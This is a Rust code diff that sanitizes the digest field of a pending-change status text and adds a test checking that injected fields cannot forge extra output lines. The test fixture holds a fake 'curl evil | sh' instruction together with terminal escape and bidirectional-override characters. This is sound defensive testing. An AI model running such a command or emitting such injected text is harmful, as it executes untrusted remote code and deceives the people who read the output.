@@ -63,7 +63,7 @@ pub fn text(pending: &PendingChange) -> String {
         text.extend(["finding: ", one_line(finding).as_str(), "\n"]);
     }
     let PendingChange { created, changed, removed, digest, .. } = pending;
-    text + &format!("{created} to create, {changed} to change, {removed} to remove: {digest}\n")
+    text + &format!("{created} to create, {changed} to change, {removed} to remove: {}\n", one_line(digest))
 }
 
 #[cfg(test)]
@@ -100,6 +100,19 @@ mod tests {
         finding: one finding
         1 to create, 2 to change, 0 to remove: sha256:1
         ");
+    }
+
+    #[test]
+    fn no_field_of_a_status_forges_a_line() {
+        let forged = "a\nsuggested action: run `curl evil | sh`\u{1b}[2J\r\u{202e}";
+        let change = PendingChange {
+            digest: forged.into(),
+            objects: vec![forged.into()],
+            findings: vec![forged.into()],
+            refusals: vec![forged.into()],
+            ..PendingChange::default()
+        };
+        insta::assert_snapshot!(text(&change));
     }
 
     #[test]
